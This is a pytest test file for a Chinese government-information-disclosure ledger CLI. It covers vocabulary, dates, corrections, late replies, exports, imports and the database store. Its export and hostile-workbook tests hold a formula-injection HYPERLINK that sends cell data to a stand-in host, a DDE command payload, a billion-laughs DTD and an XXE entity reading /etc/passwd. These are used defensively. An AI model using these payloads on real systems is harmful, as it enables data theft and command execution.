"""The ledger service layer and what a user runs into (issues 18, 20, 24, 25): one vocabulary for the CLI and
the import, dates as people write them, 更正, late replies, formula-safe export, hostile workbooks, errors all
at once, TSV when piped, the calendar template, start-up imports, damaged databases, concurrent init and an
import that does not hold the write lock while it reads."""

from __future__ import annotations

import os
import re
import sqlite3
import subprocess
import sys
import tomllib
import zipfile
from collections.abc import Callable, Sequence
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from typer.testing import CliRunner, Result

from xxgk.cli.main import app
from xxgk.ledger import vocabulary
from xxgk.ledger.calendar import builtin_calendar
from xxgk.ledger.store.bootstrap import close, resolve_target
from xxgk.ledger.xlsx import XlsxImportError, read_workbook

from .test_ledger_store import pg_server  # noqa: F401  (fixture)

ROOT = Path(__file__).resolve().parents[1]
SRC = ROOT / "src"
CAL = builtin_calendar()
runner = CliRunner()
Run = Callable[..., Result]


@pytest.fixture
def cli(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Run:
    """`xxgk ledger ARGS…` on a fresh SQLite ledger (initialised)."""
    monkeypatch.setenv("XXGK_HOME", str(tmp_path / "home"))
    monkeypatch.delenv("XXGK_DATABASE_URL", raising=False)
    db = tmp_path / "l.sqlite3"

    def run(*args: str, code: int | None = 0) -> Result:
        r = runner.invoke(app, ["ledger", *args, "--db", str(db)])
        if code is not None:
            assert r.exit_code == code, r.output
        return r

    run("init", "--agency", "某某市某某局")
    run.db = db  # type: ignore[attr-defined]
    yield run  # type: ignore[misc]
    close(resolve_target(db).alias)


def write_sheet(path: Path, rows: Sequence[Sequence[Any]]) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    for row in rows:
        ws.append(list(row))
    wb.save(path)
    return path


def import_accepts(path: Path) -> set[int]:
    """Data rows (1-based sheet row numbers) the import accepts."""
    try:
        plan = read_workbook(path, calendar=CAL)
    except XlsxImportError as e:
        bad = {p.row for p in e.problems}
        wb = openpyxl.load_workbook(path)
        n = wb.worksheets[0].max_row
        return set(range(2, n + 1)) - bad
    return {r.row for r in plan.rows}


# ---------------------------------------------------------------------------------------------
# One vocabulary (issue 18 §1)

REJECTED = ["满意", "路人", "x", "机构"]


def _candidates(group: str, labels: Sequence[str]) -> list[str]:
    return sorted({*vocabulary.words(group), *labels, *REJECTED})


def test_cli_and_import_accept_the_same_applicant_types(cli: Run, tmp_path: Path) -> None:
    labels = list(vocabulary.applicant_choices().labels.values())
    words = [*_candidates("applicant_type", labels), "法人或其他组织-商业企业", "律所", "科研"]
    cli_ok = {
        w
        for i, w in enumerate(words)
        if cli(
            "add", "--id", f"t{i}", "--received", "2025-03-03", "--applicant", "甲", "--type", w, code=None
        ).exit_code
        == 0
    }
    header = ("申请人", "申请人类型", "收到日期", "申请方式")
    path = write_sheet(tmp_path / "t.xlsx", [header, *[("甲", w, date(2025, 3, 3), "当面") for w in words]])
    import_ok = {words[row - 2] for row in import_accepts(path)}
    assert cli_ok == import_ok
    assert {"律所", "律师事务所", "个人", "企业", "自然人"} <= cli_ok
    assert not set(REJECTED) & cli_ok


def test_cli_and_import_accept_the_same_consulted_parties(cli: Run, tmp_path: Path) -> None:
    words = [*_candidates("party", list(vocabulary.data_labels("party").values())), "第三人", "其他机关", "第三方"]
    cli("add", "--id", "c", "--received", "2025-03-03", "--applicant", "甲", "--type", "自然人")
    cli_ok = {
        w
        for i, w in enumerate(words)
        if cli("event", "c", "征求意见", "--date", "2025-03-04", "--party", w, "--ref", str(i), code=None).exit_code
        == 0
    }
    header = ("申请人", "申请人类型", "收到日期", "申请方式", "征求意见对象", "征求意见日期")
    rows = [("甲", "自然人", date(2025, 3, 3), "当面", w, date(2025, 3, 4)) for w in words]
    import_ok = {words[row - 2] for row in import_accepts(write_sheet(tmp_path / "p.xlsx", [header, *rows]))}
    assert cli_ok == import_ok
    assert {"第三人", "其他机关", "第三方", "机关"} <= cli_ok
    assert not set(REJECTED) & cli_ok


def test_cli_and_import_accept_the_same_reply_types(cli: Run, tmp_path: Path) -> None:
    labels = list(vocabulary.outcome_choices().labels.values())
    words = sorted({*labels, "予以公开", "部分公开", "本机关不掌握", "不予公开-属于国家秘密", *REJECTED})
    words = [w for w in words if w not in vocabulary.words("outcome")]  # 逾期未缴费… are events of their own
    words = [w for w in words if "逾期" not in w and "补正" not in w]
    for i, _ in enumerate(words):
        cli("add", "--id", f"r{i}", "--received", "2025-03-03", "--applicant", "甲", "--type", "自然人")
    cli_ok = {
        w
        for i, w in enumerate(words)
        if cli("event", f"r{i}", "答复", "--date", "2025-03-10", "--outcome", w, code=None).exit_code == 0
    }
    header = ("申请人", "申请人类型", "收到日期", "申请方式", "答复日期", "答复类型")
    rows = [("甲", "自然人", date(2025, 3, 3), "当面", date(2025, 3, 10), w) for w in words]
    import_ok = {words[row - 2] for row in import_accepts(write_sheet(tmp_path / "o.xlsx", [header, *rows]))}
    assert cli_ok == import_ok
    assert "部分公开" in cli_ok and not set(REJECTED) & cli_ok


def test_the_vocabulary_is_data_and_the_cli_holds_none() -> None:
    cli_source = (SRC / "xxgk/cli/ledger.py").read_text("utf-8")
    for name in ("PARTY_ALIASES", "METHOD_ALIASES", "EVENT_ALIASES", "def _choose", "APPLICANT_SYNONYMS"):
        assert name not in cli_source
    importing = (SRC / "xxgk/ledger/xlsx/importing.py").read_text("utf-8")
    assert "PARTY_SYNONYMS" not in importing and "store._" not in importing
    # one numbering scheme
    defs = [p for p in (SRC / "xxgk/ledger").rglob("*.py") if "def assign_numbers" in p.read_text("utf-8")]
    assert [p.name for p in defs] == ["numbering.py"]
    data = tomllib.loads((SRC / "xxgk/ledger/vocabulary.toml").read_text("utf-8"))
    assert data["applicant_type"]["words"]["律所"] == "legal_service_org"


# ---------------------------------------------------------------------------------------------
# Dates (issue 20 items 14, 17)


@pytest.mark.parametrize("written", ["2025-09-26", "2025/9/26", "2025年9月26日", "２０２５年９月２６日"])
def test_command_line_dates_as_in_the_import(cli: Run, written: str) -> None:
    r = cli("add", "--id", "d", "--received", written, "--applicant", "甲", "--type", "自然人")
    assert "收到日期 2025-09-26" in r.output
    r = runner.invoke(app, ["deadline", written])
    assert r.exit_code == 0 and "答复期限\t2025-10-30" in r.output


def test_future_dates_are_refused_unless_allowed(cli: Run) -> None:
    later = (date.today() + timedelta(days=40)).isoformat()
    r = cli("add", "--id", "f", "--received", later, "--applicant", "甲", "--type", "自然人", code=2)
    assert "晚于今天" in r.output and "--allow-future" in r.output
    cli("add", "--id", "f", "--received", "2025-03-03", "--applicant", "甲", "--type", "自然人")
    r = cli("event", "f", "答复", "--date", later, "--outcome", "予以公开", code=2)
    assert "晚于今天" in r.output
    # a period given to the applicant may lie ahead
    cli("event", "f", "补正", "--date", "2025-03-04", "--reply-by", later)


def test_future_dates_in_an_import(tmp_path: Path) -> None:
    later = date.today() + timedelta(days=400)
    header = ("申请人", "申请人类型", "收到日期", "申请方式")
    path = write_sheet(tmp_path / "f.xlsx", [header, ("甲", "自然人", later, "当面")])
    with pytest.raises(XlsxImportError, match="晚于今天"):
        read_workbook(path, today=date.today())
    assert len(read_workbook(path).rows) == 1  # without `today` (--allow-future) it is read


# ---------------------------------------------------------------------------------------------
# Errors all at once (issue 20 item 15)


def test_a_row_with_four_problems_lists_four(tmp_path: Path) -> None:
    header = ("申请人", "申请人类型", "收到日期", "申请方式", "答复日期", "答复类型")
    path = write_sheet(
        tmp_path / "bad.xlsx",
        [
            header,
            ("甲", "路人", "2025-13-45", "飞鸽", date(2025, 3, 10), "满意"),
            ("乙", "自然人", date(2025, 3, 3), "当面", None, None),
        ],
    )
    with pytest.raises(XlsxImportError) as info:
        read_workbook(path, calendar=CAL)
    problems = [p for p in info.value.problems if p.row == 2]
    assert sorted(p.header for p in problems) == sorted(["申请人类型", "收到日期", "申请方式", "答复类型"])
    assert not [p for p in info.value.problems if p.row == 3]


# ---------------------------------------------------------------------------------------------
# 更正 (issue 20 item 16) and 超期答复 (item 17)


def test_correction_supersedes_the_receipt_and_keeps_the_trail(cli: Run) -> None:
    cli("add", "--id", "k", "--received", "2025-03-03", "--applicant", "某律所", "--type", "自然人")
    cli("event", "k", "答复", "--date", "2025-03-20", "--outcome", "予以公开")
    r = cli("event", "k", "更正", "--type", "律所", "--received", "2025-03-04", code=2)
    assert "--reason" in r.output  # a correction needs its reason
    r = cli("event", "k", "更正", "--type", "律所", "--received", "2025-03-04", "--reason", "录入错误")
    assert "申请人类型改为法律服务机构" in r.output and "收到日期改为2025-03-04" in r.output
    show = cli("show", "k").output
    assert "法律服务机构" in show and "收到日期 2025-03-04" in show and "更正收到申请信息" in show
    assert "收到申请" in show  # the original entry is still in the timeline
    audit = cli("audit", "k").output
    assert audit.count("登记事件") == 2 and "登记案件" in audit
    from xxgk.ledger.store import open_store

    store = open_store(db=cli.db, calendar=CAL)  # type: ignore[attr-defined]
    s = store.case("k").state
    assert (s.applicant_type, s.received_on, s.corrected) == ("legal_service_org", date(2025, 3, 4), True)
    from xxgk.ledger.tables import ledger_cells

    cells = ledger_cells(store.states(), 2025)
    assert cells["t3.granted.legal_service_org"] == 1 and cells["t3.granted.natural_person"] == 0
    # voiding the correction restores what it replaced
    cli("event", "k", "作废", "--date", "2025-03-21", "--target", "2", "--reason", "更正有误")
    assert open_store(db=cli.db, calendar=CAL).case("k").state.applicant_type == "natural_person"  # type: ignore[attr-defined]


def test_a_late_reply_is_flagged_everywhere_and_still_counted(cli: Run, tmp_path: Path) -> None:
    cli("add", "--id", "late", "--received", "2025-03-03", "--applicant", "甲", "--type", "自然人")
    cli("add", "--id", "ok", "--received", "2025-03-03", "--applicant", "乙", "--type", "自然人")
    cli("event", "late", "答复", "--date", "2025-04-08", "--outcome", "予以公开")  # due 2025-03-31
    cli("event", "ok", "答复", "--date", "2025-03-31", "--outcome", "予以公开")
    # due 2025-03-31; 04-04 is 清明: Apr 1, 2, 3, 7 and 8 are the working days after it
    assert "超期答复（超过期限5个工作日）" in cli("show", "late").output
    assert "超期答复" not in cli("show", "ok").output
    listing = cli("list").output
    assert "超期答复 1 件" in listing
    late_line = next(line for line in listing.splitlines() if line.startswith("late\t"))
    assert "超期答复" in late_line
    tables = cli("tables", "--year", "2025")
    assert "超期答复1件" in tables.output and "late" in tables.output
    out = tmp_path / "e.xlsx"
    cli("export", "-o", str(out))
    ws = openpyxl.load_workbook(out).worksheets[0]
    rows = list(ws.iter_rows(values_only=True))
    col = rows[0].index("超期答复")
    by_number = {r[0]: r[col] for r in rows[1:]}
    assert by_number["late"] == "超期答复（超过期限5个工作日）" and by_number["ok"] is None
    from xxgk.ledger.store import open_store
    from xxgk.ledger.tables import ledger_cells

    cells = ledger_cells(open_store(db=cli.db, calendar=CAL).states(), 2025)  # type: ignore[attr-defined]
    assert cells["t3.granted.natural_person"] == 2


# ---------------------------------------------------------------------------------------------
# Export injection (issue 24 §4) and hostile workbooks (§5)

HOSTILE_APPLICANT = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'
HOSTILE_SUBJECT = "=cmd|' /C calc'!A0"


def test_export_writes_formula_like_text_as_text(cli: Run, tmp_path: Path) -> None:
    cli(
        "add",
        "--id",
        "h",
        "--received",
        "2025-03-03",
        "--applicant",
        HOSTILE_APPLICANT,
        "--type",
        "自然人",
        "--subject",
        HOSTILE_SUBJECT,
    )
    cli(
        "add",
        "--id",
        "h2",
        "--received",
        "2025-03-03",
        "--applicant",
        "@SUM(1+1)",
        "--type",
        "自然人",
        "--subject",
        "+1-2",
    )
    out = tmp_path / "x.xlsx"
    cli("export", "-o", str(out))
    ws = openpyxl.load_workbook(out).worksheets[0]
    header = [c.value for c in ws[1]]
    cells = {ws.cell(r, 1).value: r for r in range(2, ws.max_row + 1)}
    for number, applicant, subject in (("h", HOSTILE_APPLICANT, HOSTILE_SUBJECT), ("h2", "@SUM(1+1)", "+1-2")):
        a = ws.cell(cells[number], header.index("申请人") + 1)
        s = ws.cell(cells[number], header.index("申请内容") + 1)
        assert (a.value, a.data_type) == (applicant, "s")
        assert (s.value, s.data_type) == (subject, "s")
    with zipfile.ZipFile(out) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


def _rewrite_sheet(src: Path, dst: Path, edit: Callable[[bytes], bytes]) -> Path:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = edit(data)
            zout.writestr(item, data)
    return dst


def _body(xml: bytes) -> bytes:
    """The XML without its declaration (a DTD must come right after it)."""
    return re.sub(rb"^<\?xml[^>]*\?>", b"", xml.lstrip())


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
)
EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize(
    ("name", "edit", "message"),
    [
        ("laughs", lambda b: LAUGHS + _body(b).replace(b"<v>", b"<v>&lol3;", 1), "DTD"),
        ("external", lambda b: EXTERNAL + _body(b).replace(b"<v>", b"<v>&xxe;", 1), "DTD"),
        ("truncated", lambda b: b[: len(b) // 2], "损坏"),
        ("garbage", lambda b: b"\x00\xff not xml at all <<<", "损坏"),
    ],
)
def test_hostile_workbooks_are_refused_and_nothing_is_imported(
    cli: Run, tmp_path: Path, name: str, edit: Callable[[bytes], bytes], message: str
) -> None:
    cli("add", "--id", "s", "--received", "2025-03-03", "--applicant", "甲", "--type", "自然人")
    good = tmp_path / "good.xlsx"
    cli("export", "-o", str(good))
    other = tmp_path / "other.sqlite3"
    bad = _rewrite_sheet(good, tmp_path / f"{name}.xlsx", edit)
    r = runner.invoke(app, ["ledger", "init", "--agency", "乙局", "--db", str(other)])
    assert r.exit_code == 0
    r = runner.invoke(app, ["ledger", "import", str(bad), "--db", str(other)])
    close(resolve_target(other).alias)
    assert r.exit_code == 2, r.output
    assert message in r.output and str(bad) in r.output and "Traceback" not in r.output
    assert "root:" not in r.output  # no entity was expanded into the message
    assert sqlite3.connect(other).execute("select count(*) from xxgk_ledger_case").fetchone() == (0,)


def test_export_to_a_missing_directory_prints_one_message_only(cli: Run, tmp_path: Path) -> None:
    cli("add", "--id", "m", "--received", "2025-03-03", "--applicant", "甲", "--type", "自然人")
    env = {**os.environ, "PYTHONPATH": str(SRC), "XXGK_HOME": str(tmp_path / "home")}
    p = subprocess.run(
        [sys.executable, "-m", "xxgk", "ledger", "export", "-o", "/nonexist/dir/t.xlsx", "--db", str(cli.db)],  # type: ignore[attr-defined]
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert p.returncode == 2
    assert p.stderr.strip().splitlines() == ["错误：无法写入 /nonexist/dir/t.xlsx：目录 /nonexist/dir 不存在"]


def test_save_workbook_failure_leaves_no_noise_on_stderr(tmp_path: Path) -> None:
    code = (
        "import gc\n"
        "from xxgk.ledger.case import Case\n"
        "from xxgk.ledger.events import Received\n"
        "from xxgk.ledger.deadlines import Channel\n"
        "from datetime import date\n"
        "from xxgk.ledger.xlsx import export_workbook, save_workbook\n"
        "wb = export_workbook([Case.open('a', Received(date(2025,3,3), Channel.IN_PERSON, '甲', 'natural_person'))])\n"
        "try:\n    save_workbook(wb, '/nonexist/dir/t.xlsx')\nexcept OSError:\n    print('refused')\n"
        "del wb\ngc.collect()\n"
    )
    p = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PYTHONPATH": str(SRC)},
    )
    assert p.stdout.strip() == "refused" and p.stderr == ""


# ---------------------------------------------------------------------------------------------
# The terminal (issue 20 items 12, 13, 18)


def test_list_piped_is_tsv_and_cuts_nothing(cli: Run) -> None:
    number = "2025-长编号-000123-ABCDEFGHIJ"
    applicant = "某某省某某市某某区某某街道某某社区居民委员会第三居民小组张三丰"
    cli("add", "--id", number, "--received", "2025-03-03", "--applicant", applicant, "--type", "自然人")
    r = cli("list", "--overdue", "--today", "2025-06-30")
    lines = [line.split("\t") for line in r.stdout.splitlines() if "\t" in line]
    assert lines[0][:3] == ["编号", "收到日期", "申请人"]
    row = lines[1]
    assert row[0] == number and row[1] == "2025-03-03" and row[2] == applicant
    assert row[-2] == "2025-03-31" and row[-1].startswith("已逾期")
    assert "共 1 件，其中已逾期 1 件" in r.stderr


def test_calendar_show_names_no_developer_files() -> None:
    for year in (2025, 2026):
        r = runner.invoke(app, ["calendar", "show", str(year)])
        assert r.exit_code == 0
        for word in ("shared/spec", "spec §", ".md", "holidays/"):
            assert word not in r.output
    for path in [
        *(SRC / "xxgk/ledger").rglob("*.toml"),
        *(SRC / "xxgk/ledger").rglob("*.py"),
        SRC / "xxgk/cli/ledger.py",
    ]:
        text = path.read_text("utf-8")
        strings = re.findall(r'"[^"\n]*"', text)
        assert not [s for s in strings if "shared/spec" in s or "spec §" in s or ".md" in s], path


def test_calendar_template(tmp_path: Path) -> None:
    r = runner.invoke(app, ["calendar", "template", "2027"])
    assert r.exit_code == 0
    data = tomllib.loads(r.stdout)
    assert data["year"] == 2027 and data["notice"]["title"] == "国务院办公厅关于2027年部分节假日安排的通知"
    assert "# 请对照国务院办公厅" in r.stdout and "放假首日" in r.stdout
    blank = tmp_path / "2027.toml"
    blank.write_text(r.stdout, "utf-8")
    r2 = runner.invoke(app, ["calendar", "add", str(blank), "--dir", str(tmp_path / "h")])
    assert r2.exit_code == 2 and "去掉行首的 #" in r2.output
    filled = r.stdout.replace('# [[breaks]]\n# name = "元旦"', '[[breaks]]\nname = "元旦"', 1)
    filled = filled.replace(
        "# first_day_off = 2027-MM-DD  # 放假首日\n# last_day_off = 2027-MM-DD  # 放假末日\n# make_up_workdays = []",
        "first_day_off = 2027-01-01\nlast_day_off = 2027-01-03\nmake_up_workdays = []",
        1,
    )
    blank.write_text(filled, "utf-8")
    r3 = runner.invoke(app, ["calendar", "add", str(blank), "--dir", str(tmp_path / "h")])
    assert r3.exit_code == 0, r3.output
    assert "calendar template" in runner.invoke(app, ["calendar", "add", "--help"]).output


# ---------------------------------------------------------------------------------------------
# Start-up (issue 18 §4)


def test_deadline_fee_and_calendar_load_no_django_pdf_or_html() -> None:
    """What the ledger CLI adds to `import xxgk` for these commands: nothing heavy (what `import xxgk` itself
    loads is the package's business, checked by the start-up benchmark)."""
    code = (
        "import sys, typer, xxgk\n"
        "before = set(sys.modules)\n"
        "from typer.testing import CliRunner\n"
        "from xxgk.cli.ledger import register\n"
        "app = typer.Typer()\n"
        "@app.callback()\n"
        "def root() -> None: pass\n"
        "register(app)\n"
        "r = CliRunner()\n"
        "for args in (['deadline', '2025年9月26日'], ['fee', '--pages', '50'], ['calendar', 'show', '2025'],"
        " ['calendar', 'template', '2027']):\n"
        "    res = r.invoke(app, args)\n"
        "    assert res.exit_code == 0, res.output\n"
        "heavy = ('django', 'pdfplumber', 'pdfminer', 'pypdf', 'fitz', 'bs4', 'lxml', 'html5lib', 'openpyxl',"
        " 'docx', 'xxgk.readers', 'xxgk.write', 'xxgk.ledger.store', 'xxgk.ledger.xlsx')\n"
        "print(sorted(m for m in set(sys.modules) - before if m.startswith(heavy)))\n"
        "print(sorted(m for m in sys.modules if m.startswith(('django', 'openpyxl', 'xxgk.ledger.store'))))\n"
    )
    p = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PYTHONPATH": str(SRC)},
    )
    assert p.returncode == 0, p.stderr
    assert p.stdout.split("\n")[:2] == ["[]", "[]"]


# ---------------------------------------------------------------------------------------------
# The store (issue 25 items 1–3)


def _cmd(*args: str, env: dict[str, str]) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-m", "xxgk", "ledger", *args],
        env=env,
        text=True,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )


def _eight_inits(extra: list[str], env: dict[str, str]) -> list[tuple[int, str]]:
    procs = [_cmd("init", "--agency", "某某局", *extra, env=env) for _ in range(8)]
    return [(p.wait(timeout=300), p.stderr.read() if p.stderr else "") for p in procs]


def test_eight_concurrent_inits_all_succeed_on_sqlite(tmp_path: Path) -> None:
    env = {**os.environ, "PYTHONPATH": str(SRC), "XXGK_HOME": str(tmp_path)}
    env.pop("XXGK_DATABASE_URL", None)
    db = tmp_path / "new.sqlite3"
    results = _eight_inits(["--db", str(db)], env)
    assert [code for code, _ in results] == [0] * 8, results
    con = sqlite3.connect(db)
    assert con.execute("select count(*) from xxgk_ledger_agency").fetchone() == (1,)
    assert con.execute("select count(*) from xxgk_ledger_auditentry where action='init'").fetchone() == (1,)


def test_eight_concurrent_inits_all_succeed_on_postgresql(pg_server: Any, tmp_path: Path) -> None:  # noqa: F811
    url = pg_server.new_database()
    env = {**os.environ, "PYTHONPATH": str(SRC), "XXGK_HOME": str(tmp_path), "XXGK_DATABASE_URL": url}
    results = _eight_inits([], env)
    assert [code for code, _ in results] == [0] * 8, results


def test_a_damaged_sqlite_ledger_is_refused_with_how_to_restore(cli: Run) -> None:
    for i in range(150):
        cli(
            "add",
            "--id",
            f"c{i}",
            "--received",
            "2025-03-03",
            "--applicant",
            f"申请人{i}" * 5,
            "--type",
            "自然人",
            "--subject",
            "申请公开某某文件" * 20,
        )
    db: Path = cli.db  # type: ignore[attr-defined]
    close(resolve_target(db).alias)
    con = sqlite3.connect(db)
    con.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    con.close()
    data = bytearray(db.read_bytes())
    assert len(data) > 40 * 4096
    for offset in range(len(data) // 2, len(data) // 2 + 8 * 4096, 97):
        data[offset] = 0xA5
    db.write_bytes(bytes(data))
    r = runner.invoke(app, ["ledger", "init", "--db", str(db)])
    assert r.exit_code == 2
    assert "已损坏" in r.output and "xxgk ledger import" in r.output and "xxgk ledger export" in r.output
    assert "台账已就绪" not in r.output
    r = runner.invoke(app, ["ledger", "list", "--db", str(db)])
    assert r.exit_code == 2 and "已损坏" in r.output
    close(resolve_target(db).alias)


def test_import_reads_the_file_without_holding_the_write_lock(
    cli: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    header = ("申请人", "申请人类型", "收到日期", "申请方式")
    path = write_sheet(
        tmp_path / "n.xlsx", [header, *[(f"甲{i}", "自然人", date(2025, 3, 3), "当面") for i in range(20)]]
    )
    from xxgk.ledger.xlsx import importing

    real = importing._replay
    seen: list[str] = []

    def replay(*args: Any, **kwargs: Any) -> Any:
        if not seen:  # while the file is being checked, another writer gets in at once
            other = sqlite3.connect(cli.db, timeout=0.2)  # type: ignore[attr-defined]
            try:
                other.execute("BEGIN IMMEDIATE")
                other.execute("ROLLBACK")
                seen.append("free")
            except sqlite3.OperationalError as e:
                seen.append(str(e))
            finally:
                other.close()
        return real(*args, **kwargs)

    monkeypatch.setattr(importing, "_replay", replay)
    r = cli("import", str(path))
    assert seen == ["free"]
    assert "已导入20件案件" in r.output


def test_list_on_a_narrow_terminal_wraps_text_and_cuts_no_number_or_date(
    cli: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    import io

    from rich.console import Console

    from xxgk.cli import ledger as ledger_cli

    number = "2025-长编号-000123-ABCDEFGHIJ"
    cli(
        "add",
        "--id",
        number,
        "--received",
        "2025-03-03",
        "--applicant",
        "某某省某某市某某区某某街道居民委员会",
        "--type",
        "自然人",
    )
    screen = io.StringIO()
    monkeypatch.setattr(
        ledger_cli, "out", Console(file=screen, width=70, force_terminal=True, highlight=False, color_system=None)
    )
    cli("list", "--overdue", "--today", "2025-06-30")
    text = screen.getvalue()
    assert number in text and "2025-03-03" in text and "2025-03-31" in text and "…" not in text
    assert max(len(line) for line in text.splitlines()) <= 70
